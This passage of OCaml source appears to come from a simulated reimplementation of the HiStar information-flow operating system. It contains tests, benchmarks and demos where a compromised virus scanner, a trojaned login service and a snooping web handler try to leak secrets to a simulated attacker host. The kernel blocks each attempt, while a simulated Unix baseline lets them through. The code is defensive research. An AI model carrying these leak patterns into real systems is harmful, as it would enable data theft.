    Histar_net.Stack.connect (Histar_net.Sim_host.stack a)
      ~dst:(Histar_net.Addr.v "10.0.0.2" 7)
  in
  Histar_net.Stack.send c "x";
  ignore (Histar_net.Stack.recv c);
  Histar_net.Stack.close c;
  Histar_net.Stack.close c (* double close is fine *);
  (try
     Histar_net.Stack.send c "y";
     Alcotest.fail "send after close"
   with Invalid_argument _ -> ());
  Histar_net.Stack.unlisten (Histar_net.Sim_host.stack b) ~port:7;
  (* a new connection now gets RST *)
  let c2 =
    Histar_net.Stack.connect (Histar_net.Sim_host.stack a)
      ~dst:(Histar_net.Addr.v "10.0.0.2" 7)
  in
  Alcotest.(check bool) "rst after unlisten" true
    (Histar_net.Stack.state c2 = Histar_net.Stack.Closed)

(* ---------- determinism and crash recovery ---------- *)

let run_workload () =
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let store = Store.format ~disk () in
  let kernel = Kernel.create ~clock ~store () in
  let _tid =
    Kernel.spawn kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root kernel) ~label:l1 in
        let proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        ignore (Fs.mkdir fs "/w");
        for i = 0 to 49 do
          Fs.write_file fs (Printf.sprintf "/w/f%d" i) (String.make 512 'x');
          if i mod 10 = 0 then Fs.fsync fs (Printf.sprintf "/w/f%d" i)
        done;
        let r, w = Process.pipe proc in
        let h =
          Process.spawn proc ~name:"echo" ~fds:[ w ] (fun p ->
              ignore (Process.write p w "done");
              Process.close p w)
        in
        ignore (Process.read proc r 8);
        ignore (Process.wait proc h);
        Sys.sync_all ())
  in
  Kernel.run kernel;
  Clock.now_ns clock

let test_simulation_deterministic () =
  let a = run_workload () in
  let b = run_workload () in
  Alcotest.(check int64) "identical virtual end time" a b

let test_kernel_crash_during_checkpoint () =
  let clock = Clock.create () in
  let disk = Disk.create ~clock () in
  let store = Store.format ~disk () in
  let kernel = Kernel.create ~clock ~store () in
  let _tid =
    Kernel.spawn kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root kernel) ~label:l1 in
        let _proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        Fs.write_file fs "/gen" "one";
        Sys.sync_all ();
        Fs.write_file fs "/gen" "two";
        (* power fails partway through the second checkpoint *)
        Disk.set_crash_after_writes disk 7;
        match Sys.sync_all () with
        | () -> ()
        | exception Kernel_error _ -> ())
  in
  (try Kernel.run kernel with Disk.Crashed -> ());
  let disk' = Disk.reopen_after_crash disk in
  let kernel' = Kernel.recover ~store:(Store.recover ~disk:disk') in
  let seen = ref None in
  let _tid =
    Kernel.spawn kernel' ~name:"after" (fun () ->
        let kids =
          Option.value ~default:[]
            (Kernel.container_children kernel' (Kernel.root kernel'))
        in
        List.iter
          (fun (oid, kind) ->
            if kind = Container then
              match Sys.obj_descrip (self_entry oid) with
              | "/" -> (
                  let fs = Fs.make ~root:oid in
                  match Fs.read_file fs "/gen" with
                  | v -> seen := Some v
                  | exception _ -> ())
              | _ -> ()
              | exception Kernel_error _ -> ())
          kids)
  in
  Kernel.run kernel';
  (* whole-snapshot atomicity: we see gen one or gen two, never garbage *)
  match !seen with
  | Some "one" | Some "two" -> ()
  | Some other -> Alcotest.fail ("inconsistent state: " ^ other)
  | None -> Alcotest.fail "file system lost"

let () =
  Alcotest.run "histar_more"
    [
      ( "kernel edges",
        [
          Alcotest.test_case "metadata limit" `Quick test_metadata_limit;
          Alcotest.test_case "quota needs read" `Quick
            test_quota_observation_needs_read;
          Alcotest.test_case "link double-charges" `Quick
            test_hard_link_double_charges;
          Alcotest.test_case "verify label" `Quick test_verify_label_check;
          Alcotest.test_case "thread label privacy" `Quick
            test_thread_cannot_read_higher_thread_label;
          Alcotest.test_case "copy needs observe" `Quick
            test_segment_copy_requires_observe;
          Alcotest.test_case "as map/unmap" `Quick test_as_map_unmap;
        ] );
      ( "fs semantics",
        [
          Alcotest.test_case "missing intermediate" `Quick
            test_missing_intermediate;
          Alcotest.test_case "readdir of file" `Quick
            test_readdir_of_file_rejected;
          Alcotest.test_case "rename replaces" `Quick test_rename_replaces_target;
          Alcotest.test_case "relabel (chmod)" `Quick
            test_relabel_chmod_semantics;
          Alcotest.test_case "mtime" `Quick test_mtime_advances;
          Alcotest.test_case "fsync missing" `Quick test_fsync_missing_raises;
        ] );
      ("fs model", [ QCheck_alcotest.to_alcotest prop_fs_model ]);
      ( "persistence",
        [
          Alcotest.test_case "unix world reboot" `Quick
            test_unix_world_survives_reboot;
        ] );
      ( "pipes",
        [
          Alcotest.test_case "blocking when full" `Quick test_pipe_blocking_full;
          Alcotest.test_case "two writers EOF" `Quick test_pipe_two_writers_eof;
        ] );
      ( "processes",
        [
          Alcotest.test_case "grandchildren" `Quick test_grandchildren;
          Alcotest.test_case "fork_exec no text" `Quick
            test_fork_exec_without_text;
          Alcotest.test_case "missing text" `Quick test_exec_missing_text_raises;
        ] );
      ("net teardown", [ Alcotest.test_case "close/unlisten" `Quick test_stack_teardown ]);
      ( "simulation",
        [
          Alcotest.test_case "deterministic" `Quick
            test_simulation_deterministic;
          Alcotest.test_case "crash mid-checkpoint" `Quick
            test_kernel_crash_during_checkpoint;
        ] );
    ]
