examples/vpn_isolation.ml: Addr Buffer Fs Histar_apps Histar_core Histar_label Histar_net Histar_unix Hub Label Level Netd Printf Process Sim_host
