examples/web_server.ml: Authd Dird Fs Histar_apps Histar_auth Histar_core Histar_label Histar_unix Label Level List Logd Printf Process Users Webserver
