examples/attacks.mli:
