examples/auth_login.mli:
