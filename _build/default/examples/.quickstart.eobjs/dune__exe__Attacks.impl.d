examples/attacks.ml: Clamav_world Histar_apps Histar_baseline Histar_core Histar_disk Histar_util List Printf Scanner Wrap
