examples/auth_login.ml: Authd Dird Fs Histar_auth Histar_core Histar_label Histar_unix Label Level List Logd Login Printf Process String Users
