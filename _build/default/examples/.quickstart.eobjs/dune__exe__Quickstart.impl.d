examples/quickstart.ml: Category Fs Histar_core Histar_label Histar_unix Label Level Printf Process
