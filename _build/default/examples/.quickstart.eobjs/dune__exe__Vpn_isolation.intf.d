examples/vpn_isolation.mli:
