examples/quickstart.mli:
