examples/virus_scanner.ml: Clamav_world Histar_apps Histar_baseline Histar_core Histar_disk Histar_net Histar_util List Printf Scanner String Wrap
