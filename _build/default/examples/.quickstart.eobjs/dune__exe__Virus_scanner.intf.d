examples/virus_scanner.mli:
