(* Untrusted user authentication (§6.2, Figures 8-10).

     dune exec examples/auth_login.exe

   Starts the logging service, the directory service and bob's
   authentication daemon, then:
   1. logs in with the right password (gaining bob's categories);
   2. fails with a wrong password (exactly one bit leaks);
   3. connects to a *trojaned* authentication service planted by a
      malicious directory and shows the password cannot be stolen. *)

module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
open Histar_unix
open Histar_auth
open Histar_label

let say fmt = Printf.printf (fmt ^^ "\n")

let () =
  let kernel = Kernel.create () in
  let _init =
    Kernel.spawn kernel ~name:"init" (fun () ->
        say "== HiStar authentication demo ==";
        let fs =
          Fs.format_root ~container:(Kernel.root kernel)
            ~label:(Label.make Level.L1)
        in
        let proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        let log = Logd.start proc in
        let dir = Dird.start proc in
        let bob = Users.create_user ~fs ~name:"bob" in
        Fs.write_file fs "/home/bob/secret" "bob's tax return";
        let bob_auth =
          Authd.start proc ~user:bob ~password:"hunter2" ~log ~dir ()
        in
        let attempt name ~username ~password =
          let outcome = ref None in
          let h =
            Process.spawn proc ~name (fun sshd ->
                let o = Login.login ~proc:sshd ~dir ~username ~password in
                (match o with
                | Login.Granted u ->
                    say "  granted: now owning %s's categories" u.Process.user_name;
                    say "  reading the private file: %S"
                      (Fs.read_file (Process.fs sshd) "/home/bob/secret")
                | Login.Bad_password -> say "  rejected: bad password"
                | Login.No_such_user -> say "  rejected: no such user"
                | Login.Setup_rejected -> say "  rejected by the service");
                outcome := Some o)
          in
          ignore (Process.wait proc h)
        in
        say "\n-- correct password --";
        attempt "sshd-1" ~username:"bob" ~password:"hunter2";
        say "\n-- wrong password --";
        attempt "sshd-2" ~username:"bob" ~password:"letmein";
        say "\n-- malicious directory hands us a trojaned service --";
        let evil = Authd.trojaned_setup_gate bob_auth in
        let h =
          Process.spawn proc ~name:"sshd-3" (fun sshd ->
              match
                Login.login_via_gate ~proc:sshd ~setup_gate:evil
                  ~username:"bob" ~password:"hunter2"
              with
              | Login.Bad_password ->
                  say "  login failed (the permitted one-bit leak)"
              | _ -> say "  unexpected outcome")
        in
        ignore (Process.wait proc h);
        say "  exfiltrated through kernel channels: %s"
          (match Authd.stolen bob_auth with
          | [] -> "nothing"
          | l -> String.concat ", " l);
        say "\n-- the append-only authentication log --";
        List.iter (fun e -> say "  %s" e) (Logd.entries log);
        say "\n== done ==")
  in
  Kernel.run kernel
