(* The §1 leak-vector matrix as a standalone demo.

     dune exec examples/attacks.exe

   A compromised, tainted process attempts each §1 channel on HiStar
   (every one denied by a label check) and the same channels on a
   simulated Unix kernel with classic discretionary access control
   (every one succeeds). *)

module Kernel = Histar_core.Kernel
open Histar_apps

let say fmt = Printf.printf (fmt ^^ "\n")

let () =
  say "== The §1 leak vectors: HiStar vs Unix ==";
  let kernel = Kernel.create () in
  let histar = ref [] in
  Clamav_world.build ~kernel ~network:true ~update_daemon:false () (fun w ->
      let evil ~proc ~db_path ~paths ~result_seg ~spawn_helpers =
        ignore db_path;
        ignore spawn_helpers;
        Scanner.run_evil ~proc ~paths ~attacker_netd:w.Clamav_world.netd
          ~result_seg
          ~report:(fun a -> histar := a :: !histar)
      in
      ignore
        (Wrap.run ~proc:w.Clamav_world.proc ~user:w.Clamav_world.bob
           ~db_path:Clamav_world.db_path
           ~paths:(List.map fst Clamav_world.user_files)
           ~scanner:evil ()));
  Kernel.run kernel;
  let clock = Histar_util.Sim_clock.create () in
  let disk = Histar_disk.Disk.create ~clock () in
  let u =
    Histar_baseline.Unixsim.create Histar_baseline.Unixsim.Linux ~disk ~clock ()
  in
  let unix = Histar_baseline.Unixsim.attack_surface u ~secret:"bob-agi-123456" in
  Printf.printf "%-22s %14s %14s\n" "channel" "HiStar" "Unix";
  List.iter
    (fun (a : Scanner.leak_attempt) ->
      let ux =
        match
          List.find_opt
            (fun l -> l.Histar_baseline.Unixsim.channel = a.Scanner.channel)
            unix
        with
        | Some l -> l.Histar_baseline.Unixsim.succeeded
        | None -> false
      in
      Printf.printf "%-22s %14s %14s\n" a.Scanner.channel
        (if a.Scanner.succeeded then "LEAKED" else "blocked")
        (if ux then "LEAKED" else "blocked"))
    (List.rev !histar);
  say "\nEvery channel that Unix permits is a single label check on HiStar."
