(* The running example of the paper (§1, §2.1, §6.1): an untrusted
   virus scanner isolated by the 110-line wrap program.

     dune exec examples/virus_scanner.exe

   Builds the full ClamAV world (user files, virus database, update
   daemon, network with an attacker's host), then:
   1. runs an honest scan under wrap and reports verdicts;
   2. runs a *compromised* scanner under the same wrap and shows every
      §1 leak vector denied by the kernel;
   3. runs the same compromised scanner on the simulated Unix kernel,
      where every vector succeeds. *)

module Kernel = Histar_core.Kernel
open Histar_apps

let say fmt = Printf.printf (fmt ^^ "\n")

let () =
  let kernel = Kernel.create () in
  Clamav_world.build ~kernel ~network:true ~update_daemon:true () (fun w ->
      say "== HiStar virus scanner demo ==";
      say "bob's files: %s"
        (String.concat ", " (List.map fst Clamav_world.user_files));
      (* honest scan *)
      let report =
        Wrap.run ~proc:w.Clamav_world.proc ~user:w.Clamav_world.bob
          ~db_path:Clamav_world.db_path
          ~paths:(List.map fst Clamav_world.user_files)
          ~spawn_helpers:true ()
      in
      say "\n-- wrap: honest scan (%s) --"
        (if report.Wrap.timed_out then "timed out" else "completed");
      List.iter
        (fun v ->
          say "  %-28s %s" v.Scanner.path
            (match v.Scanner.matched with
            | Some s -> "INFECTED (" ^ s ^ ")"
            | None -> "clean"))
        report.Wrap.verdicts;
      (* compromised scan *)
      say "\n-- wrap: compromised scanner attempts every leak vector --";
      let evil ~proc ~db_path ~paths ~result_seg ~spawn_helpers =
        ignore db_path;
        ignore spawn_helpers;
        Scanner.run_evil ~proc ~paths ~attacker_netd:w.Clamav_world.netd
          ~result_seg
          ~report:(fun a ->
            say "  %-20s %s" a.Scanner.channel
              (if a.Scanner.succeeded then "LEAKED (BUG)"
               else "blocked by the kernel"))
      in
      ignore
        (Wrap.run ~proc:w.Clamav_world.proc ~user:w.Clamav_world.bob
           ~db_path:Clamav_world.db_path
           ~paths:(List.map fst Clamav_world.user_files)
           ~scanner:evil ());
      (match w.Clamav_world.attacker with
      | Some a ->
          say "  attacker's drop box received: %S" (Histar_net.Sim_host.sink_data a)
      | None -> ()));
  Kernel.run kernel;
  (* Unix comparison *)
  say "\n-- the same compromised scanner on a Unix kernel --";
  let clock = Histar_util.Sim_clock.create () in
  let disk = Histar_disk.Disk.create ~clock () in
  let u = Histar_baseline.Unixsim.create Histar_baseline.Unixsim.Linux ~disk ~clock () in
  List.iter
    (fun l ->
      say "  %-20s %s" l.Histar_baseline.Unixsim.channel
        (if l.Histar_baseline.Unixsim.succeeded then "LEAKED" else "blocked"))
    (Histar_baseline.Unixsim.attack_surface u ~secret:"bob-agi-123456");
  say "  attacker's host received: %S"
    (Histar_baseline.Unixsim.network_sink u);
  say "\n== done =="
