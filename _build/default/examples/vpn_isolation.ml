(* VPN isolation (§6.3, Figure 11).

     dune exec examples/vpn_isolation.exe

   One machine, two networks: the open internet (taint [i]) and a
   corporate network behind an encrypted tunnel (taint [v]). The only
   component owning both categories is the small VPN client; the
   kernel guarantees no other flow between the networks. *)

module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
open Histar_core.Types
open Histar_unix
open Histar_net
open Histar_label

let say fmt = Printf.printf (fmt ^^ "\n")

let fetch proc netd ~taint ~dst ~label_desc =
  let scratch =
    Sys.container_create ~container:(Process.container proc)
      ~label:(Label.of_list taint Level.L1)
      ~quota:262_144L "scratch"
  in
  let outcome = ref "?" in
  let h =
    Process.spawn proc ~name:"browser" ~extra_label:taint ~extra_clearance:taint
      (fun _b ->
        match Netd.Client.connect netd ~return_container:scratch dst with
        | sock ->
            Netd.Client.send netd ~return_container:scratch sock "GET /";
            let buf = Buffer.create 64 in
            let rec go () =
              match Netd.Client.recv netd ~return_container:scratch sock with
              | Some d ->
                  Buffer.add_string buf d;
                  go ()
              | None -> ()
            in
            go ();
            outcome := Printf.sprintf "fetched %S" (Buffer.contents buf)
        | exception Netd.Client.Netd_error m ->
            outcome := "refused by netd: " ^ m
        | exception Kernel_error e ->
            outcome := "blocked by the kernel: " ^ error_to_string e)
  in
  ignore (Process.wait proc h);
  say "  browser %s -> %s: %s" label_desc (Addr.ip_to_string dst.Addr.ip)
    !outcome

let () =
  let kernel = Kernel.create () in
  let clock = Kernel.clock kernel in
  let inet_hub = Hub.create ~clock () in
  let corp_hub = Hub.create ~clock () in
  let web = Sim_host.create ~hub:inet_hub ~clock ~ip:"10.1.2.3" ~mac:"web" () in
  Sim_host.serve_file web ~port:80 ~content:"public internet page";
  let wiki = Sim_host.create ~hub:corp_hub ~clock ~ip:"192.168.1.2" ~mac:"wiki" () in
  Sim_host.serve_file wiki ~port:80 ~content:"CONFIDENTIAL corp wiki";
  let _init =
    Kernel.spawn kernel ~name:"init" (fun () ->
        say "== HiStar VPN isolation demo ==";
        let fs =
          Fs.format_root ~container:(Kernel.root kernel)
            ~label:(Label.make Level.L1)
        in
        let proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        let i = Sys.cat_create () in
        let v = Sys.cat_create () in
        let vpn = Histar_apps.Vpn.setup ~proc ~kernel ~inet_hub ~corp_hub ~i ~v in
        say "\n-- the two legitimate flows --";
        fetch proc (Histar_apps.Vpn.inet_netd vpn)
          ~taint:[ (i, Level.L2) ]
          ~dst:(Addr.v "10.1.2.3" 80) ~label_desc:"{i2}";
        fetch proc (Histar_apps.Vpn.vpn_netd vpn)
          ~taint:[ (v, Level.L2) ]
          ~dst:(Addr.v "192.168.1.2" 80) ~label_desc:"{v2}";
        say "  (%d frames crossed the tunnel)"
          (Histar_apps.Vpn.frames_tunneled vpn);
        say "\n-- the two forbidden flows --";
        fetch proc (Histar_apps.Vpn.inet_netd vpn)
          ~taint:[ (v, Level.L2) ]
          ~dst:(Addr.v "10.1.2.3" 80) ~label_desc:"{v2} (corp data!)";
        fetch proc (Histar_apps.Vpn.vpn_netd vpn)
          ~taint:[ (i, Level.L2) ]
          ~dst:(Addr.v "192.168.1.2" 80) ~label_desc:"{i2} (internet data!)";
        say "\n== done ==")
  in
  Kernel.run kernel
