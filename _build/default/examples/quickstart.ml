(* Quickstart: boot a HiStar machine, meet labels.

     dune exec examples/quickstart.exe

   Walks through the paper's §2 example: categories, tainted files,
   "no read up", "no write down", and taint-to-read. *)

module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
open Histar_core.Types
open Histar_unix
open Histar_label

let l entries d = Label.of_list entries d
let say fmt = Printf.printf (fmt ^^ "\n")

let () =
  let kernel = Kernel.create () in
  let _init =
    Kernel.spawn kernel ~name:"init" (fun () ->
        say "== HiStar quickstart ==";
        let fs =
          Fs.format_root ~container:(Kernel.root kernel)
            ~label:(Label.make Level.L1)
        in
        let proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        (* 1. Anyone can allocate categories (§2): doing so grants
           ownership — the ⋆ level — in that category. *)
        let c = Sys.cat_create () in
        say "allocated category %s; my label is now %s"
          (Category.to_string c)
          (Label.to_string (Sys.self_label ()));
        (* 2. A file tainted {c3}: its contents must not flow to anyone
           who is not at least as tainted. *)
        ignore (Fs.mkdir fs "/secrets");
        let secret_label = l [ (c, Level.L3) ] Level.L1 in
        ignore (Fs.create fs ~label:secret_label "/secrets/diary");
        Fs.write_file fs "/secrets/diary" "attack at dawn";
        say "created /secrets/diary with label %s" (Label.to_string secret_label);
        (* 3. An unprivileged child cannot read it ("no read up"),
           cannot write public files once tainted ("no write down"). *)
        let child =
          Process.spawn proc ~name:"snoop" (fun snoop ->
              let sfs = Process.fs snoop in
              (match Fs.read_file sfs "/secrets/diary" with
              | s -> say "!! snoop read the diary: %s (BUG)" s
              | exception Kernel_error (Label_check m) ->
                  say "snoop denied by the kernel: %s" m
              | exception Kernel_error e ->
                  say "snoop denied: %s" (error_to_string e));
              Process.exit snoop 0)
        in
        ignore (Process.wait proc child);
        (* 4. A thread may taint itself up to its clearance to read —
           and afterwards cannot export what it saw. *)
        let tainted_reader =
          Process.spawn proc ~name:"reader"
            ~extra_clearance:[ (c, Level.L3) ]
            (fun r ->
              Sys.self_set_label (l [ (c, Level.L3) ] Level.L1);
              let contents = Fs.read_file (Process.fs r) "/secrets/diary" in
              say "tainted reader sees: %S" contents;
              (match Fs.write_file (Process.fs r) "/leak" contents with
              | () -> say "!! tainted reader exported the secret (BUG)"
              | exception Kernel_error _ ->
                  say "tainted reader cannot write untainted files: leak blocked");
              Process.exit r 0)
        in
        ignore (Process.wait proc tainted_reader);
        (* 5. The owner reads and writes freely: ⋆ bypasses taint. *)
        say "owner reads: %S" (Fs.read_file fs "/secrets/diary");
        say "== done ==")
  in
  Kernel.run kernel
