(* Web services (§6.4): per-user isolation of untrusted service code.

     dune exec examples/web_server.exe

   The demultiplexer authenticates each request through the §6.2
   machinery and runs the (untrusted) service handler in a worker
   process holding exactly that user's categories. Even a handler that
   actively tries to read other users' data is stopped by the kernel. *)

module Kernel = Histar_core.Kernel
open Histar_core.Types
open Histar_unix
open Histar_auth
open Histar_apps
open Histar_label

let say fmt = Printf.printf (fmt ^^ "\n")

let () =
  let kernel = Kernel.create () in
  let _init =
    Kernel.spawn kernel ~name:"init" (fun () ->
        say "== HiStar web services demo ==";
        let fs =
          Fs.format_root ~container:(Kernel.root kernel)
            ~label:(Label.make Level.L1)
        in
        let proc = Process.boot ~fs ~container:(Kernel.root kernel) ~name:"init" () in
        let log = Logd.start proc in
        let dir = Dird.start proc in
        let mk_user name pw profile =
          let u = Users.create_user ~fs ~name in
          Fs.write_file fs ("/home/" ^ name ^ "/profile") profile;
          ignore (Authd.start proc ~user:u ~password:pw ~log ~dir ());
          u
        in
        let _alice = mk_user "alice" "apw" "alice: card 4111-1111" in
        let _bob = mk_user "bob" "bpw" "bob: card 5500-2222" in
        (* a handler that serves the requested path — and, if the
           request smells malicious, even *tries* to read the other
           user's profile first *)
        let handler worker req =
          let wfs = Process.fs worker in
          let other =
            if req.Webserver.req_user = "alice" then "/home/bob/profile"
            else "/home/alice/profile"
          in
          (match Fs.read_file wfs other with
          | stolen -> say "  !! cross-user read succeeded: %s (BUG)" stolen
          | exception Kernel_error _ ->
              say "  (worker tried to read %s: kernel said no)" other);
          Webserver.profile_handler worker req
        in
        let ws = Webserver.start ~proc ~dir ~handler in
        let get user pw path =
          say "GET %s as %s" path user;
          match
            Webserver.serve_one ws
              { Webserver.req_user = user; req_password = pw; req_path = path }
          with
          | Webserver.Ok body -> say "  200: %s" body
          | Webserver.Denied m -> say "  403: %s" m
        in
        get "alice" "apw" "/home/alice/profile";
        get "bob" "bpw" "/home/bob/profile";
        get "bob" "bpw" "/home/alice/profile";
        get "mallory" "x" "/home/alice/profile";
        get "alice" "wrong" "/home/alice/profile";
        say "\naudit log:";
        List.iter (fun e -> say "  %s" e) (Logd.entries log);
        say "== done ==")
  in
  Kernel.run kernel
