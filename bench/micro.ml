(* Wall-clock microbenchmarks of the substrate primitives, measured
   with Bechamel: label-algebra operations (which the paper notes
   dominate kernel costs and motivated Asbestos's label-comparison
   caching), B+-tree operations, the category-name cipher, and a full
   syscall round trip through the scheduler. *)

open Bechamel
open Toolkit
module Label = Histar_label.Label
module Level = Histar_label.Level
module Category = Histar_label.Category

let mk_label n seed =
  Label.of_list
    (List.init n (fun i ->
         ( Category.of_int ((i * 7919) + seed),
           if (i + seed) mod 4 = 0 then Level.Star
           else Level.of_int ((i + seed) mod 4) )))
    Level.L1

let test_label_leq =
  let a = mk_label 8 1 and b = mk_label 8 2 in
  Test.make ~name:"label.leq (8 cats)" (Staged.stage (fun () -> Label.leq a b))

let test_label_lub =
  let a = mk_label 8 1 and b = mk_label 8 2 in
  Test.make ~name:"label.lub (8 cats)" (Staged.stage (fun () -> Label.lub a b))

let test_label_observe =
  let thread = mk_label 8 1 and obj = mk_label 8 3 in
  Test.make ~name:"label.can_observe"
    (Staged.stage (fun () -> Label.can_observe ~thread ~obj))

let test_cipher =
  let c = Histar_crypto.Block_cipher.create ~key:42L in
  let v = ref 0L in
  Test.make ~name:"category cipher (encrypt61)"
    (Staged.stage (fun () ->
         v := Int64.add !v 1L;
         Histar_crypto.Block_cipher.encrypt61 c (Int64.logand !v 0xFFFFFFL)))

let test_btree_insert =
  Test.make ~name:"btree insert x1000"
    (Staged.stage (fun () ->
         let t = ref (Histar_btree.Bptree.create ()) in
         for i = 0 to 999 do
           t :=
             Histar_btree.Bptree.insert !t (Int64.of_int (i * 17 mod 1000)) 0L
         done))

let big_btree n =
  let t = ref (Histar_btree.Bptree.create ()) in
  for i = 0 to n - 1 do
    t := Histar_btree.Bptree.insert !t (Int64.of_int i) (Int64.of_int i)
  done;
  !t

let test_btree_find =
  let t = big_btree 10_000 in
  let k = ref 0 in
  Test.make ~name:"btree find (10k entries)"
    (Staged.stage (fun () ->
         k := (!k + 7919) mod 10_000;
         Histar_btree.Bptree.find t (Int64.of_int !k)))

(* One branch off a 10k-entry tree: the path-copying cost a kernel
   fork pays per changed object. *)
let test_btree_branch =
  let t = big_btree 10_000 in
  let k = ref 0 in
  Test.make ~name:"btree branch insert (10k entries)"
    (Staged.stage (fun () ->
         k := (!k + 7919) mod 10_000;
         Histar_btree.Bptree.insert t (Int64.of_int (10_000 + !k)) 0L))

let test_syscall_roundtrip =
  Test.make ~name:"syscall round trip (yield x100)"
    (Staged.stage (fun () ->
         let k = Histar_core.Kernel.create ~syscall_cost_ns:0 () in
         let _t =
           Histar_core.Kernel.spawn k ~name:"y" (fun () ->
               for _ = 1 to 100 do
                 Histar_core.Sys.yield ()
               done)
         in
         Histar_core.Kernel.run k))

let benchmark () =
  let ols =
    Analyze.ols ~bootstrap:0 ~r_square:true ~predictors:[| Measure.run |]
  in
  let instances = Instance.[ monotonic_clock ] in
  let cfg =
    Benchmark.cfg ~limit:2000 ~quota:(Time.second 0.5) ~kde:(Some 1000) ()
  in
  let tests =
    [
      test_label_leq;
      test_label_lub;
      test_label_observe;
      test_cipher;
      test_btree_insert;
      test_btree_find;
      test_btree_branch;
      test_syscall_roundtrip;
    ]
  in
  Printf.printf "\n%s\nSubstrate microbenchmarks (wall clock, Bechamel)\n%s\n"
    (String.make 78 '-') (String.make 78 '-');
  List.iter
    (fun test ->
      let results =
        Benchmark.all cfg instances (Test.make_grouped ~name:"g" [ test ])
      in
      let results = Analyze.all ols Instance.monotonic_clock results in
      Hashtbl.iter
        (fun name ols_result ->
          match Analyze.OLS.estimates ols_result with
          | Some [ est ] -> Printf.printf "%-40s %12.1f ns/run\n" name est
          | Some _ | None -> Printf.printf "%-40s %12s\n" name "n/a")
        results)
    tests
