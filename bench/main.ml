(* The benchmark harness: regenerates every table and figure of the
   paper's evaluation (§7) on the simulated substrate, plus the code
   inventory and the §1 attack matrix. See DESIGN.md for the experiment
   index and EXPERIMENTS.md for recorded paper-vs-measured results.

   Usage:
     main.exe                     run everything (human-readable tables)
     main.exe f12-ipc f13-wget    run selected experiments
     main.exe --quick             smaller workloads
     main.exe --bechamel          wall-clock substrate microbenchmarks
     main.exe --smoke             deterministic runner, minimal sizes,
                                  writes BENCH_baseline.json
     main.exe --bench             deterministic runner, full sizes
     main.exe --out FILE          output path for --smoke/--bench
     main.exe --jobs N            run workloads on N pool domains
                                  (output minus wall_ms is identical
                                  at every N)
     main.exe --validate-bench F  validate a BENCH_*.json against the
                                  schema; exit nonzero on mismatch *)

open Histar_bench

let experiments =
  [
    ("f12-ipc", "IPC / fork / exec / spawn microbenchmarks", F12_micro.run);
    ("f12-lfs", "LFS small- and large-file benchmarks", F12_lfs.run);
    ("f13-apps", "kernel build, wget, ClamAV", F13_apps.run);
    ("t-codesize", "code-size inventory (§4.1)", Tables.codesize);
    ("ablation", "design-choice ablations (log batching, label width)", Ablation.run);
    ("sec-attacks", "§1 leak-vector matrix vs Unix", Tables.attacks);
  ]

let aliases =
  [
    ("f12-forkexec", "f12-ipc");
    ("f12-spawn", "f12-ipc");
    ("t-syscalls", "f12-ipc");
    ("f12-lfs-small", "f12-lfs");
    ("f12-lfs-large", "f12-lfs");
    ("f13-build", "f13-apps");
    ("f13-wget", "f13-apps");
    ("f13-clamav", "f13-apps");
  ]

let usage () =
  print_endline
    "usage: main.exe [--quick] [--bechamel] [experiment ...]\n\
    \       main.exe --smoke | --bench [--out FILE] [--jobs N]\n\
    \       main.exe --validate-bench FILE";
  print_endline "experiments:";
  List.iter (fun (n, d, _) -> Printf.printf "  %-14s %s\n" n d) experiments;
  List.iter (fun (a, t) -> Printf.printf "  %-14s alias for %s\n" a t) aliases

let set_quick () =
  F12_lfs.files := 200;
  F12_lfs.large_mb := 8;
  F12_lfs.rand_writes := 100;
  F13_apps.build_files := 6;
  F13_apps.wget_mb := 4;
  F13_apps.scan_mb := 2

let default_out = "BENCH_baseline.json"

(* Run the deterministic runner; a workload that traps names itself on
   stderr and fails the process. *)
let run_bench ~jobs ~size ~out =
  match Runner.run_suite ~jobs ~size () with
  | json ->
      (match Runner.validate json with
      | Ok () -> ()
      | Error e ->
          Printf.eprintf "bench: generated trajectory is schema-invalid: %s\n" e;
          exit 1);
      Runner.write_file ~path:out json;
      Printf.printf "wrote %s (%s sizes, %d workloads)\n" out
        (Runner.size_to_string size)
        (List.length Runner.workload_names)
  | exception Runner.Workload_failed (name, e) ->
      Printf.eprintf "bench: workload %s failed: %s\n" name
        (Printexc.to_string e);
      exit 1

let validate_bench path =
  match Runner.read_file path with
  | exception Sys_error e ->
      Printf.eprintf "bench: cannot read %s: %s\n" path e;
      exit 1
  | exception Histar_metrics.Json.Parse_error e ->
      Printf.eprintf "bench: %s is not JSON: %s\n" path e;
      exit 1
  | json -> (
      match Runner.validate json with
      | Ok () -> Printf.printf "%s: schema ok\n" path
      | Error e ->
          Printf.eprintf "bench: %s fails schema: %s\n" path e;
          exit 1)

let rec parse_out = function
  | "--out" :: path :: _ -> Some path
  | _ :: rest -> parse_out rest
  | [] -> None

(* Workload-level parallelism for --smoke/--bench: N independent
   workloads on the lib/par pool. The trajectory (minus wall_ms) is
   byte-identical at every N — pinned by test_bench. *)
let rec parse_jobs = function
  | "--jobs" :: n :: _ -> (
      match int_of_string_opt n with
      | Some n when n >= 1 -> n
      | Some _ | None ->
          Printf.eprintf "bench: --jobs wants a positive integer, got %s\n" n;
          exit 1)
  | _ :: rest -> parse_jobs rest
  | [] -> 1

let () =
  let args = List.tl (Array.to_list Stdlib.Sys.argv) in
  let out = Option.value (parse_out args) ~default:default_out in
  let jobs = parse_jobs args in
  match args with
  | _ when List.mem "--help" args -> usage ()
  | _ when List.mem "--smoke" args -> run_bench ~jobs ~size:Runner.Smoke ~out
  | _ when List.mem "--bench" args -> run_bench ~jobs ~size:Runner.Full ~out
  | "--validate-bench" :: path :: _ -> validate_bench path
  | _ ->
      let bechamel = List.mem "--bechamel" args in
      if List.mem "--quick" args then set_quick ();
      let selected =
        List.filter_map
          (fun a ->
            if String.length a >= 2 && String.sub a 0 2 = "--" then None
            else
              match List.assoc_opt a aliases with
              | Some t -> Some t
              | None ->
                  if List.exists (fun (n, _, _) -> n = a) experiments then
                    Some a
                  else begin
                    Printf.eprintf "unknown experiment: %s\n" a;
                    usage ();
                    exit 1
